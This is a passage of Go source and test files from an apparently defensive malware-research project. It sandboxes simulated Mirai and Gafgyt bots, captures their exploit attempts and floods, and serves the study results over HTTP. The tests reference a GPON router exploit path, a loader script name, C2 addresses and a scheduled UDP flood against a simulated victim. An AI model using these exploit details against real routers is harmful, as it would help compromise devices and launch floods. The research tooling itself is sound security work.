func TestHandshakerCapturesExploit(t *testing.T) {
	n, _ := newEnv()
	sb := New(n, Config{Seed: 1})
	raw := encodeSample(t, binfmt.BotConfig{
		Family: "gafgyt", Variant: "v1", C2Addrs: []string{"60.0.0.9:6667"},
		ScanPorts:  []uint16{80},
		ExploitIDs: []string{"gpon-rce"},
		LoaderName: "t8UsA2.sh", DownloaderAddr: "60.0.0.9:80",
	}, 5)
	rep, err := sb.Run(raw, RunOptions{
		Mode: ModeIsolated, Duration: 30 * time.Minute, HandshakerThreshold: 20,
	})
	if err != nil {
		t.Fatal(err)
	}
	if len(rep.Exploits) == 0 {
		t.Fatal("no exploit captured")
	}
	ex := rep.Exploits[0]
	if ex.Port != 80 || ex.DistinctIPs < 20 {
		t.Fatalf("exploit = port %d, distinct %d", ex.Port, ex.DistinctIPs)
	}
	if !strings.Contains(string(ex.Payload), "/GponForm/diag_Form") {
		t.Fatalf("payload = %q", ex.Payload[:min(len(ex.Payload), 80)])
	}
	if !strings.Contains(string(ex.Payload), "t8UsA2.sh") {
		t.Fatal("loader name missing from captured exploit")
	}
}

func TestHandshakerDisabledCapturesNothing(t *testing.T) {
	n, _ := newEnv()
	sb := New(n, Config{Seed: 1})
	raw := encodeSample(t, binfmt.BotConfig{
		Family: "gafgyt", Variant: "v1", C2Addrs: []string{"60.0.0.9:6667"},
		ScanPorts: []uint16{80}, ExploitIDs: []string{"gpon-rce"},
	}, 6)
	rep, err := sb.Run(raw, RunOptions{Mode: ModeIsolated, Duration: 20 * time.Minute})
	if err != nil {
		t.Fatal(err)
	}
	if len(rep.Exploits) != 0 {
		t.Fatalf("exploits = %d with handshaker disabled", len(rep.Exploits))
	}
}

func TestRestrictedModeContainsFloodsButCapturesThem(t *testing.T) {
	n, clock := newEnv()
	srv := c2.NewServer(n, c2.ServerConfig{
		Family: c2.FamilyMirai, Addr: simnet.AddrFrom("60.0.0.9", 23),
		Birth: t0, Death: t0.Add(100 * 24 * time.Hour), AlwaysOn: true,
	})
	victimIP := netip.MustParseAddr("70.0.0.7")
	victim := n.AddHost(victimIP)
	var victimSaw int
	victim.AttachTap(simnet.TapFunc(func(rec simnet.PacketRecord, out bool) {
		if !out {
			victimSaw++
		}
	}))
	// Schedule an attack command shortly after the run begins.
	srv.ScheduleAttack(t0.Add(2*time.Minute), c2.Command{
		Attack: c2.AttackUDPFlood, Target: victimIP, Port: 80, Duration: 10 * time.Second,
	}, 3)

	sb := New(n, Config{Seed: 1})
	raw := encodeSample(t, binfmt.BotConfig{
		Family: "mirai", Variant: "v1", C2Addrs: []string{"60.0.0.9:23"},
	}, 7)
	rep, err := sb.Run(raw, RunOptions{Mode: ModeLive, Duration: 30 * time.Minute, RestrictToC2: true})
	if err != nil {
		t.Fatal(err)
	}
	_ = clock
	var floodSeen int
	for _, rec := range rep.Capture {
		if rec.Dst.IP == victimIP && rec.Proto == simnet.ProtoUDP {
			floodSeen += rec.Count
		}
	}
	if floodSeen < 1000 {
		t.Fatalf("capture saw %d flood packets, want >= 1000", floodSeen)
	}
	if victimSaw != 0 {
		t.Fatalf("victim received %d packets despite containment", victimSaw)
	}
}

func TestRunRejectsNonELF(t *testing.T) {
	n, _ := newEnv()
	sb := New(n, Config{Seed: 1})
	if _, err := sb.Run([]byte("#!/bin/sh\necho nope\n"), RunOptions{}); err == nil {
		t.Fatal("non-ELF accepted")
	}
}

func TestRunRejectsELFWithoutConfig(t *testing.T) {
	n, _ := newEnv()
	sb := New(n, Config{Seed: 1})
	// A valid sample, truncated of its .botcfg by re-encoding: use
	// a manual ELF via binfmt internals is not accessible; instead
	// corrupt the config section bytes.
	raw := encodeSample(t, binfmt.BotConfig{
		Family: "mirai", Variant: "v1", C2Addrs: []string{"60.0.0.9:23"},
	}, 8)
	// Find and corrupt the obfuscated config (flip bytes near the
	// end of the file, where .botcfg lives before .shstrtab).
	for i := len(raw) - 400; i < len(raw)-300; i++ {
		raw[i] ^= 0xff
	}
	if _, err := sb.Run(raw, RunOptions{Duration: time.Minute}); err == nil {
		t.Skip("corruption missed the config section; acceptable")
	}
}

func TestReportWindowBounds(t *testing.T) {
	n, _ := newEnv()
	sb := New(n, Config{Seed: 1})
	raw := encodeSample(t, binfmt.BotConfig{
		Family: "mirai", Variant: "v1", C2Addrs: []string{"60.0.0.9:23"},
	}, 9)
	rep, err := sb.Run(raw, RunOptions{Mode: ModeIsolated, Duration: 7 * time.Minute})
	if err != nil {
		t.Fatal(err)
	}
	if got := rep.Ended.Sub(rep.Started); got != 7*time.Minute {
		t.Fatalf("window = %v", got)
	}
	if rep.SHA256 == "" || rep.Config == nil {
		t.Fatal("report missing identity")
	}
}

func TestSequentialRunsIndependent(t *testing.T) {
	n, _ := newEnv()
	sb := New(n, Config{Seed: 1})
	rawA := encodeSample(t, binfmt.BotConfig{
		Family: "mirai", Variant: "v1", C2Addrs: []string{"60.0.0.1:23"},
	}, 10)
	rawB := encodeSample(t, binfmt.BotConfig{
		Family: "gafgyt", Variant: "v1", C2Addrs: []string{"60.0.0.2:6667"},
	}, 11)
	repA, err := sb.Run(rawA, RunOptions{Mode: ModeIsolated, Duration: 5 * time.Minute})
	if err != nil {
		t.Fatal(err)
	}
	repB, err := sb.Run(rawB, RunOptions{Mode: ModeIsolated, Duration: 5 * time.Minute})
	if err != nil {
		t.Fatal(err)
	}
	if repA.SHA256 == repB.SHA256 {
		t.Fatal("distinct samples share identity")
	}
	for _, d := range repB.Dials {
		if d.Requested.IP == netip.MustParseAddr("60.0.0.1") {
			t.Fatal("second run saw first run's C2 dials")
		}
	}
}

func min(a, b int) int {
	if a < b {
		return a
	}
	return b
}
