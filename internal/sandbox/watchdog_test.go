package sandbox

import (
	"runtime"
	"testing"
	"time"

	"malnet/internal/binfmt"
	"malnet/internal/simnet"
)

// hungSample is a scanner-heavy config: its victim scanner
// self-reschedules indefinitely, which is the event-storm shape the
// watchdog exists to bound.
func hungSample(t *testing.T) []byte {
	t.Helper()
	return encodeSample(t, binfmt.BotConfig{
		Family: "mirai", Variant: "v1",
		C2Addrs:   []string{"60.0.0.9:23"},
		ScanPorts: []uint16{23, 2323},
	}, 1)
}

// TestWatchdogAbortsHungActivation: a sample that burns its event
// budget is aborted mid-window with TimedOut set and its partial
// capture retained — and the abort leaks nothing: no goroutines, and
// no stale timer left on the clock ever emits traffic afterwards.
func TestWatchdogAbortsHungActivation(t *testing.T) {
	before := runtime.NumGoroutine()

	n, clock := newEnv()
	sb := New(n, Config{Seed: 1})
	const budget = 250
	rep, err := sb.Run(hungSample(t), RunOptions{
		Mode: ModeIsolated, Duration: 2 * time.Hour, EventBudget: budget,
	})
	if err != nil {
		t.Fatal(err)
	}
	if !rep.TimedOut {
		t.Fatal("scanner storm did not exhaust a 250-event budget")
	}
	if rep.EventsFired != budget {
		t.Fatalf("EventsFired = %d, want exactly the budget %d", rep.EventsFired, budget)
	}
	if !rep.Ended.Before(rep.Started.Add(2 * time.Hour)) {
		t.Fatalf("timed-out run still consumed the full window: %v .. %v", rep.Started, rep.Ended)
	}
	if len(rep.Capture) == 0 {
		t.Fatal("abort discarded the partial capture")
	}

	// Leak check, timer half: the abort leaves queued events behind
	// (that is RunBudget's contract), but every one of them must be
	// inert — advancing the clock through the rest of the window may
	// not produce a single packet from the sandbox host.
	var late int
	detach := sb.Host().AttachTap(simnet.TapFunc(func(rec simnet.PacketRecord, outbound bool) {
		late++
	}))
	clock.RunFor(4 * time.Hour)
	detach()
	if late != 0 {
		t.Fatalf("%d packets emitted after the watchdog abort; stale timers are live", late)
	}

	// Leak check, goroutine half (the executor-cancellation idiom):
	// the sandbox is synchronous in virtual time, so the watchdog
	// path must not have spawned anything.
	var after int
	for i := 0; i < 20; i++ {
		runtime.Gosched()
		if after = runtime.NumGoroutine(); after <= before {
			break
		}
		time.Sleep(10 * time.Millisecond)
	}
	if after > before {
		t.Fatalf("goroutines grew %d -> %d across a watchdog abort", before, after)
	}
}

// TestWatchdogDisabledByDefault: EventBudget 0 preserves the
// historical unbounded behavior — the full window elapses, TimedOut
// stays false.
func TestWatchdogDisabledByDefault(t *testing.T) {
	n, _ := newEnv()
	sb := New(n, Config{Seed: 1})
	rep, err := sb.Run(hungSample(t), RunOptions{Mode: ModeIsolated, Duration: 10 * time.Minute})
	if err != nil {
		t.Fatal(err)
	}
	if rep.TimedOut {
		t.Fatal("TimedOut set with no budget armed")
	}
	if !rep.Ended.Equal(rep.Started.Add(10 * time.Minute)) {
		t.Fatalf("window = %v .. %v, want the full 10m", rep.Started, rep.Ended)
	}
	if rep.EventsFired == 0 {
		t.Fatal("EventsFired not counted on the unbudgeted path")
	}
}

// TestWatchdogGenerousBudgetNoFalsePositive: a well-behaved run under
// a roomy budget completes its window untouched.
func TestWatchdogGenerousBudgetNoFalsePositive(t *testing.T) {
	n, _ := newEnv()
	sb := New(n, Config{Seed: 1})
	raw := encodeSample(t, binfmt.BotConfig{
		Family: "mirai", Variant: "v1", C2Addrs: []string{"60.0.0.9:23"},
	}, 1)
	rep, err := sb.Run(raw, RunOptions{
		Mode: ModeIsolated, Duration: 10 * time.Minute, EventBudget: 1 << 20,
	})
	if err != nil {
		t.Fatal(err)
	}
	if rep.TimedOut {
		t.Fatalf("quiet sample tripped the watchdog after %d events", rep.EventsFired)
	}
	if !rep.Ended.Equal(rep.Started.Add(10 * time.Minute)) {
		t.Fatalf("window = %v .. %v, want the full 10m", rep.Started, rep.Ended)
	}
}
