package serve

import (
	"net/http"
	"sort"

	"malnet/internal/c2"
	"malnet/internal/c2/spec"
	"malnet/internal/obs/redplane"
)

// familyInfo is one family's row in /v1/families: the spec registry's
// view of the protocol (shape, attack vocabulary, duty-cycle model)
// joined with the serving snapshot's per-family sample count.
type familyInfo struct {
	Family          string `json:"family"`
	Transport       string `json:"transport,omitempty"`
	Description     string `json:"description,omitempty"`
	P2P             bool   `json:"p2p,omitempty"`
	Topology        string `json:"topology,omitempty"`
	LaunchesAttacks bool   `json:"launches_attacks,omitempty"`
	Framing         string `json:"framing,omitempty"`
	// Attacks is the command vocabulary in the spec's canonical
	// order; empty for families without an attack codec.
	Attacks []string       `json:"attacks,omitempty"`
	Ports   []uint16       `json:"ports,omitempty"`
	Duty    spec.DutyModel `json:"duty"`
	// Registered distinguishes registry-backed rows from families
	// that appear only in the dataset (a snapshot written by a
	// binary with a richer registry than this one).
	Registered bool `json:"registered"`
	// Samples is the family's D-Samples row count in the served
	// snapshot; zero for registered families the study never fed.
	Samples int `json:"samples"`
}

// familiesResponse is the /v1/families envelope.
type familiesResponse struct {
	Generation string       `json:"generation"`
	Day        int          `json:"day"`
	Total      int          `json:"total"`
	Families   []familyInfo `json:"families"`
}

// attackVocabulary flattens the spec's command set into attack-type
// labels, canonical order.
func attackVocabulary(ps spec.ProtocolSpec) []string {
	if ps.Commands == nil {
		return nil
	}
	var out []string
	if ps.Commands.Binary != nil {
		for _, v := range ps.Commands.Binary.Vectors {
			out = append(out, v.Attack.String())
		}
	}
	if ps.Commands.Text != nil {
		for _, v := range ps.Commands.Text.Verbs {
			out = append(out, v.Attack.String())
		}
	}
	return out
}

// handleFamilies serves GET /v1/families: the spec registry joined
// with per-family dataset counts. Uncached — the registry can grow at
// runtime (scenario-pack spec overrides), so rows must not outlive a
// registration the way snapshot-keyed cache entries would.
func (s *Server) handleFamilies(r *http.Request, sp *redplane.Span) (any, *httpError) {
	if herr := s.checkParams(r); herr != nil {
		return nil, herr
	}
	st := s.Store()
	if s.lk != nil {
		var herr *httpError
		if st, herr = s.storeForSelector(r); herr != nil {
			return nil, herr
		}
	}

	rows := make([]familyInfo, 0, 8)
	seen := map[string]bool{}
	for _, p := range c2.Protocols() {
		ps := p.Spec()
		seen[ps.Name] = true
		rows = append(rows, familyInfo{
			Family:          ps.Name,
			Transport:       ps.Transport,
			Description:     ps.Description,
			P2P:             ps.P2P,
			Topology:        ps.Topology,
			LaunchesAttacks: ps.LaunchesAttacks,
			Framing:         string(ps.Framing),
			Attacks:         attackVocabulary(ps),
			Ports:           ps.Ports,
			Duty:            ps.Duty,
			Registered:      true,
			Samples:         st.FamilySamples(ps.Name),
		})
	}
	for _, f := range st.Families() {
		if seen[f] {
			continue
		}
		rows = append(rows, familyInfo{Family: f, Samples: st.FamilySamples(f)})
	}
	sort.Slice(rows, func(i, j int) bool { return rows[i].Family < rows[j].Family })
	return familiesResponse{
		Generation: st.Generation,
		Day:        st.Day,
		Total:      len(rows),
		Families:   rows,
	}, nil
}
