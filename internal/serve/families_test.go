package serve

import (
	"context"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"sort"
	"testing"

	"malnet/internal/c2"
	"malnet/internal/c2/spec"
	"malnet/internal/core"
	"malnet/internal/obs"
	"malnet/internal/world"
)

// scenarioCheckpointDir runs one scenario-packed fixture study (base
// feed plus the wisp relay mesh and sora DGA packs) to completion —
// the end of the ISSUE's study → checkpoint → malnetd chain.
func scenarioCheckpointDir(t *testing.T) string {
	t.Helper()
	dir := filepath.Join(fixtureBase, "scenario")
	fixMu.Lock()
	defer fixMu.Unlock()
	if fixDirs[-1] != "" {
		return dir
	}
	wcfg := world.DefaultConfig(fixtureSeed)
	wcfg.TotalSamples = fixtureSamples
	wcfg.Scenario.Families = []string{c2.FamilyWisp, c2.FamilySora}
	wcfg.Scenario.Defaults()
	scfg := core.Defaults(fixtureSeed)
	scfg.Analysis.ProbeRounds = 4
	scfg.Determinism.Workers = 2
	scfg.Durability = core.CheckpointConfig{Dir: dir}
	if _, err := core.RunStudyContext(context.Background(), world.Generate(wcfg), scfg); err != nil {
		t.Fatalf("scenario fixture study failed: %v", err)
	}
	fixDirs[-1] = dir
	return dir
}

// TestServeFamilies covers GET /v1/families against a scenario-packed
// snapshot: every registered spec appears with its protocol shape and
// attack vocabulary, the pack families carry their topologies and
// nonzero dataset counts, and unknown parameters 400.
func TestServeFamilies(t *testing.T) {
	srv, err := New(scenarioCheckpointDir(t), obs.NewWall())
	if err != nil {
		t.Fatal(err)
	}
	ts := httptest.NewServer(srv.Handler())
	defer ts.Close()

	var resp struct {
		Generation string       `json:"generation"`
		Day        int          `json:"day"`
		Total      int          `json:"total"`
		Families   []familyInfo `json:"families"`
	}
	getOK(t, ts, "/v1/families", &resp)
	if len(resp.Generation) != 64 {
		t.Fatalf("generation is not a SHA-256 hex string: %q", resp.Generation)
	}
	if resp.Total != len(resp.Families) {
		t.Fatalf("total %d but %d rows", resp.Total, len(resp.Families))
	}
	if !sort.SliceIsSorted(resp.Families, func(i, j int) bool {
		return resp.Families[i].Family < resp.Families[j].Family
	}) {
		t.Fatal("rows not sorted by family")
	}

	rows := map[string]familyInfo{}
	for _, f := range resp.Families {
		rows[f.Family] = f
	}
	// Every registered spec must have a row mirroring it.
	for _, p := range c2.Protocols() {
		ps := p.Spec()
		row, ok := rows[ps.Name]
		if !ok {
			t.Fatalf("registered family %s missing from /v1/families", ps.Name)
		}
		if !row.Registered || row.Transport != ps.Transport || row.Topology != ps.Topology {
			t.Fatalf("row for %s does not mirror its spec: %+v", ps.Name, row)
		}
		if row.Duty != ps.Duty {
			t.Fatalf("row for %s has duty %+v, want %+v", ps.Name, row.Duty, ps.Duty)
		}
	}
	// The base feed and both packs left samples behind.
	for _, fam := range []string{c2.FamilyMirai, c2.FamilyWisp, c2.FamilySora} {
		if rows[fam].Samples == 0 {
			t.Fatalf("family %s has zero dataset samples", fam)
		}
	}
	// The pack families advertise their scenario topologies and
	// attack vocabularies.
	if got := rows[c2.FamilyWisp].Topology; got != spec.TopologyP2PRelay {
		t.Fatalf("wisp topology %q, want %q", got, spec.TopologyP2PRelay)
	}
	if got := rows[c2.FamilySora].Topology; got != spec.TopologyDGA {
		t.Fatalf("sora topology %q, want %q", got, spec.TopologyDGA)
	}
	for _, fam := range []string{c2.FamilyMirai, c2.FamilyWisp, c2.FamilySora} {
		if len(rows[fam].Attacks) == 0 {
			t.Fatalf("family %s has no attack vocabulary", fam)
		}
	}
	// P2P families without a command codec list none.
	if len(rows[c2.FamilyMozi].Attacks) != 0 {
		t.Fatalf("mozi should have no attack vocabulary, got %v", rows[c2.FamilyMozi].Attacks)
	}

	// Unknown parameters 400; lake selectors are unknown in
	// single-directory mode and must 400 too.
	for _, path := range []string{"/v1/families?bogus=1", "/v1/families?run=main"} {
		if status, body := get(t, ts, path); status != http.StatusBadRequest {
			t.Fatalf("GET %s: status %d, want 400: %s", path, status, body)
		}
	}
}
