package serve

import (
	"bytes"
	"encoding/json"
	"fmt"
	"net/http"
	"sort"
	"strconv"
	"strings"
	"sync"

	"malnet/internal/core"
	"malnet/internal/lake"
	"malnet/internal/obs/redplane"
)

// Lake mode: the daemon mounts a whole run lake instead of one
// checkpoint directory. The default store tracks a branch head (see
// Reload); this file is everything beyond that default — resolving
// run=/asof= selectors through the commit journal, keeping resolved
// historical generations resident, and the two lake-only endpoints
// (/v1/runs, /v1/diff).

// maxResidentStores caps how many historical generations are kept
// built in memory at once. A Store carries full row and columnar
// mirrors of its snapshot, so the cap is small; eviction is LRU by
// last request. The default (branch-head) store lives outside this
// cache and is never evicted.
const maxResidentStores = 4

// residentStore is one historical generation's lazily built store.
// The once gates the build so a thundering herd of time-travel
// requests for the same generation builds it exactly once; losers of
// an LRU eviction race still resolve through their own entry.
type residentStore struct {
	once  sync.Once
	store *Store
	err   error
	touch int64
}

// hasSelector reports whether the raw query carries a run= or asof=
// selector, by segment scan — no url.Values allocation on the
// selector-free hot path.
func hasSelector(rawQuery string) bool {
	for len(rawQuery) > 0 {
		seg := rawQuery
		if i := strings.IndexByte(rawQuery, '&'); i >= 0 {
			seg, rawQuery = rawQuery[:i], rawQuery[i+1:]
		} else {
			rawQuery = ""
		}
		if strings.HasPrefix(seg, "run=") || strings.HasPrefix(seg, "asof=") {
			return true
		}
	}
	return false
}

// storeForSelector resolves the request's run=/asof= selector to a
// store: the run (branch or run name, defaulting to the serving
// branch) picks a line of history, asof= picks the newest commit at
// or before that study day (absent = head). Resolution goes through
// the journal on every request — head lookups must see commits landed
// since the last reload tick.
func (s *Server) storeForSelector(r *http.Request) (*Store, *httpError) {
	sel := r.URL.Query().Get("run")
	if sel == "" {
		sel = s.branch
	}
	asof := -1
	if raw := r.URL.Query().Get("asof"); raw != "" {
		n, err := strconv.Atoi(raw)
		if err != nil || n < 0 {
			return nil, badRequest("asof: want a non-negative study-day index, got %q", raw)
		}
		asof = n
	}
	c, err := s.lk.ResolveSelector(sel, asof)
	if err != nil {
		return nil, &httpError{status: http.StatusNotFound, msg: err.Error()}
	}
	return s.storeForCommit(c)
}

// storeForCommit returns a store serving the commit's generation: the
// current default store when the generations match, a resident store
// otherwise (built on first touch, LRU-retained).
func (s *Server) storeForCommit(c *lake.Commit) (*Store, *httpError) {
	if cur := s.store.Load(); cur != nil && cur.Generation == c.Snapshot {
		return cur, nil
	}
	s.residentMu.Lock()
	e := s.resident[c.Snapshot]
	if e == nil {
		if len(s.resident) >= maxResidentStores {
			s.evictOldestLocked()
		}
		e = &residentStore{}
		s.resident[c.Snapshot] = e
	}
	s.residentTick++
	e.touch = s.residentTick
	s.residentMu.Unlock()

	e.once.Do(func() {
		ss, reg, err := core.OpenSnapshotAt(s.lk.ObjectPath(c.Snapshot))
		if err != nil {
			e.err = err
			return
		}
		st := BuildStore(ss, reg)
		st.Run = c.Run
		e.store = st
	})
	if e.err != nil {
		// A failed build must not stay resident: the object may be
		// mid-GC or the error transient, and a poisoned entry would
		// 500 forever.
		s.residentMu.Lock()
		if s.resident[c.Snapshot] == e {
			delete(s.resident, c.Snapshot)
		}
		s.residentMu.Unlock()
		return nil, &httpError{status: http.StatusInternalServerError,
			msg: fmt.Sprintf("loading generation %s: %v", c.Snapshot, e.err)}
	}
	return e.store, nil
}

// evictOldestLocked drops the least-recently-touched resident store.
// Caller holds residentMu.
func (s *Server) evictOldestLocked() {
	oldestKey, oldestTouch := "", int64(0)
	for k, e := range s.resident {
		if oldestKey == "" || e.touch < oldestTouch {
			oldestKey, oldestTouch = k, e.touch
		}
	}
	if oldestKey != "" {
		delete(s.resident, oldestKey)
	}
}

// uncached wraps a lake endpoint with the in-flight gauge, the
// request span, and JSON encoding — but no response cache: /v1/runs
// and /v1/diff read the journal, which can grow without any
// generation turnover, so generation-keyed caching would serve stale
// history.
func (s *Server) uncached(name string, fn func(r *http.Request, sp *redplane.Span) (any, *httpError)) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		s.inflight.Add(1)
		defer s.inflight.Add(-1)

		sp := s.red.Start(name, requestPath(r), "")
		v, herr := fn(r, sp)
		if herr != nil {
			b, _ := json.Marshal(map[string]string{"error": herr.msg})
			finishJSON(w, sp, herr.status, append(b, '\n'))
			return
		}
		var buf bytes.Buffer
		if err := json.NewEncoder(&buf).Encode(v); err != nil {
			b, _ := json.Marshal(map[string]string{"error": "encoding response"})
			finishJSON(w, sp, http.StatusInternalServerError, append(b, '\n'))
			return
		}
		finishJSON(w, sp, http.StatusOK, buf.Bytes())
	}
}

// runCommit is one commit in a /v1/runs listing.
type runCommit struct {
	ID         int64  `json:"id"`
	Day        int    `json:"day"`
	Generation string `json:"generation"`
	Run        string `json:"run"`
	Seed       int64  `json:"seed"`
}

// runBranch is one branch's row in /v1/runs: identity from the head
// commit, then the retained generations newest-first.
type runBranch struct {
	Branch         string      `json:"branch"`
	Run            string      `json:"run"`
	Seed           int64       `json:"seed"`
	HeadDay        int         `json:"head_day"`
	HeadGeneration string      `json:"head_generation"`
	Fingerprint    string      `json:"fingerprint,omitempty"`
	Generations    int         `json:"generations"`
	Commits        []runCommit `json:"commits"`
}

// handleRuns lists the lake's branches, their runs, and retained
// generations. 404 outside lake mode — a single-directory daemon has
// no run history to list.
func (s *Server) handleRuns(r *http.Request, sp *redplane.Span) (any, *httpError) {
	if s.lk == nil {
		return nil, &httpError{status: http.StatusNotFound, msg: "not serving a lake (no run history)"}
	}
	if herr := s.checkParams(r, "limit"); herr != nil {
		return nil, herr
	}
	limit := 50
	if raw := r.URL.Query().Get("limit"); raw != "" {
		n, err := strconv.Atoi(raw)
		if err != nil || n <= 0 {
			return nil, badRequest("limit: want a positive integer, got %q", raw)
		}
		if n > 500 {
			n = 500
		}
		limit = n
	}
	branches, err := s.lk.Branches()
	if err != nil {
		return nil, &httpError{status: http.StatusInternalServerError, msg: err.Error()}
	}
	out := make([]runBranch, 0, len(branches))
	for _, br := range branches {
		log, err := s.lk.Log(br)
		if err != nil {
			return nil, &httpError{status: http.StatusInternalServerError, msg: err.Error()}
		}
		if len(log) == 0 {
			continue
		}
		head := log[0]
		rb := runBranch{
			Branch:         br,
			Run:            head.Run,
			Seed:           head.Seed,
			HeadDay:        head.Day,
			HeadGeneration: head.Snapshot,
			Fingerprint:    head.Fingerprint,
			Generations:    len(log),
		}
		for _, c := range log {
			if len(rb.Commits) >= limit {
				break
			}
			rb.Commits = append(rb.Commits, runCommit{
				ID: c.ID, Day: c.Day, Generation: c.Snapshot, Run: c.Run, Seed: c.Seed,
			})
		}
		sp.AddRows(len(log))
		out = append(out, rb)
	}
	return struct {
		Branch   string      `json:"serving_branch"`
		Branches []runBranch `json:"branches"`
	}{s.branch, out}, nil
}

// diffSide is one resolved endpoint of a /v1/diff comparison.
type diffSide struct {
	Selector   string         `json:"selector"`
	Branch     string         `json:"branch"`
	Run        string         `json:"run"`
	Seed       int64          `json:"seed"`
	Day        int            `json:"day"`
	Generation string         `json:"generation"`
	Datasets   map[string]int `json:"datasets"`
}

// parseSelector splits a diff selector "branch-or-run[@day]".
func parseSelector(sel string) (name string, asof int, herr *httpError) {
	name, rawDay, hasDay := strings.Cut(sel, "@")
	if name == "" {
		return "", 0, badRequest("selector: want branch-or-run[@day], got %q", sel)
	}
	asof = -1
	if hasDay {
		n, err := strconv.Atoi(rawDay)
		if err != nil || n < 0 {
			return "", 0, badRequest("selector %q: @day wants a non-negative study-day index, got %q", sel, rawDay)
		}
		asof = n
	}
	return name, asof, nil
}

// handleDiff compares headline and aggregate results across two
// runs/branches (optionally pinned to a day: a=main@90&b=ablation).
// The response carries both sides' full headline sections plus the
// list of top-level headline fields whose values differ, so a caller
// can spot the changed findings without diffing client-side.
func (s *Server) handleDiff(r *http.Request, sp *redplane.Span) (any, *httpError) {
	if s.lk == nil {
		return nil, &httpError{status: http.StatusNotFound, msg: "not serving a lake (nothing to diff)"}
	}
	if herr := s.checkParams(r, "a", "b"); herr != nil {
		return nil, herr
	}
	sides := [2]struct {
		side  diffSide
		store *Store
	}{}
	for i, param := range []string{"a", "b"} {
		sel := r.URL.Query().Get(param)
		if sel == "" {
			return nil, badRequest("%s: want a selector branch-or-run[@day]", param)
		}
		name, asof, herr := parseSelector(sel)
		if herr != nil {
			return nil, herr
		}
		c, err := s.lk.ResolveSelector(name, asof)
		if err != nil {
			return nil, &httpError{status: http.StatusNotFound, msg: fmt.Sprintf("%s: %v", param, err)}
		}
		st, herr := s.storeForCommit(c)
		if herr != nil {
			return nil, herr
		}
		samples, c2s, exploits, ddos := st.Sizes()
		sides[i].side = diffSide{
			Selector: sel, Branch: c.Branch, Run: c.Run, Seed: c.Seed,
			Day: c.Day, Generation: c.Snapshot,
			Datasets: map[string]int{
				"samples": samples, "c2s": c2s, "exploits": exploits, "ddos": ddos,
			},
		}
		sides[i].store = st
		sp.AddRows(samples)
	}
	a, b := sides[0], sides[1]
	changed, herr := headlineChanged(a.store, b.store)
	if herr != nil {
		return nil, herr
	}
	return struct {
		A         diffSide       `json:"a"`
		B         diffSide       `json:"b"`
		Identical bool           `json:"identical"`
		Datasets  map[string]int `json:"dataset_deltas"`
		Changed   []string       `json:"headline_changed"`
		HeadlineA any            `json:"headline_a"`
		HeadlineB any            `json:"headline_b"`
	}{
		A:         a.side,
		B:         b.side,
		Identical: a.side.Generation == b.side.Generation,
		Datasets: map[string]int{
			"samples":  b.side.Datasets["samples"] - a.side.Datasets["samples"],
			"c2s":      b.side.Datasets["c2s"] - a.side.Datasets["c2s"],
			"exploits": b.side.Datasets["exploits"] - a.side.Datasets["exploits"],
			"ddos":     b.side.Datasets["ddos"] - a.side.Datasets["ddos"],
		},
		Changed:   changed,
		HeadlineA: a.store.Headline(),
		HeadlineB: b.store.Headline(),
	}, nil
}

// headlineChanged names the top-level headline fields whose JSON
// values differ between the two stores, sorted. Comparing through
// JSON keeps the diff in lockstep with whatever results.Headlines
// grows into — a new headline finding is diffable the day it exists.
func headlineChanged(a, b *Store) ([]string, *httpError) {
	var am, bm map[string]json.RawMessage
	for _, side := range []struct {
		st *Store
		m  *map[string]json.RawMessage
	}{{a, &am}, {b, &bm}} {
		enc, err := json.Marshal(side.st.Headline())
		if err == nil {
			err = json.Unmarshal(enc, side.m)
		}
		if err != nil {
			return nil, &httpError{status: http.StatusInternalServerError, msg: "encoding headline"}
		}
	}
	changed := []string{}
	for k, av := range am {
		if bv, ok := bm[k]; !ok || !bytes.Equal(av, bv) {
			changed = append(changed, k)
		}
	}
	for k := range bm {
		if _, ok := am[k]; !ok {
			changed = append(changed, k)
		}
	}
	sort.Strings(changed)
	return changed, nil
}
