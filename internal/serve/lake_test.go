package serve

import (
	"bytes"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"malnet/internal/checkpoint"
	"malnet/internal/lake"
	"malnet/internal/obs"
	"malnet/internal/obs/redplane"
)

// lakeFixture is one worker count's lake: a study killed mid-run and
// resumed to completion, with both checkpoints committed to branch
// "main" — two generations of one run. midDir holds a plain-directory
// copy of the mid-study checkpoint for the equivalence diff.
type lakeFixture struct {
	lakeDir  string
	midDir   string
	finalDir string
	midDay   int
}

var (
	lakeFixtures = map[int]*lakeFixture{}
)

// buildLakeFixture runs the killed+resumed study for one worker count
// and commits both generations. Cached per worker count for the test
// binary's lifetime (study runs dominate this package's runtime).
func buildLakeFixture(t *testing.T, workers int) *lakeFixture {
	t.Helper()
	fixMu.Lock()
	defer fixMu.Unlock()
	if f, ok := lakeFixtures[workers]; ok {
		return f
	}
	base := filepath.Join(fixtureBase, fmt.Sprintf("lake-w%d", workers))
	f := &lakeFixture{
		lakeDir:  filepath.Join(base, "lake"),
		midDir:   filepath.Join(base, "mid"),
		finalDir: filepath.Join(base, "ckpt"),
	}
	l, err := lake.Open(f.lakeDir)
	if err != nil {
		t.Fatal(err)
	}
	run := fmt.Sprintf("seed-%d", fixtureSeed)

	runStudy(t, f.finalDir, workers, 90, false)
	snap, _, err := checkpoint.Latest(f.finalDir)
	if err != nil || snap == nil {
		t.Fatalf("no mid-study checkpoint: snap=%v err=%v", snap, err)
	}
	f.midDay = snap.Day
	// Keep a directory-mode copy of the mid checkpoint: resuming
	// prunes it from finalDir, and the equivalence test serves it
	// directly.
	if err := os.MkdirAll(f.midDir, 0o755); err != nil {
		t.Fatal(err)
	}
	raw, err := os.ReadFile(snap.Path)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(f.midDir, filepath.Base(snap.Path)), raw, 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := l.CommitFile("main", run, fixtureSeed, snap.Day, snap.Path); err != nil {
		t.Fatal(err)
	}

	runStudy(t, f.finalDir, workers, -1, true)
	snap, _, err = checkpoint.Latest(f.finalDir)
	if err != nil || snap == nil {
		t.Fatalf("no final checkpoint: snap=%v err=%v", snap, err)
	}
	if snap.Day <= f.midDay {
		t.Fatalf("final checkpoint day %d not past mid day %d", snap.Day, f.midDay)
	}
	if _, err := l.CommitFile("main", run, fixtureSeed, snap.Day, snap.Path); err != nil {
		t.Fatal(err)
	}
	lakeFixtures[workers] = f
	return f
}

// TestServeTimeTravelEquivalence is the lake's serving contract: a
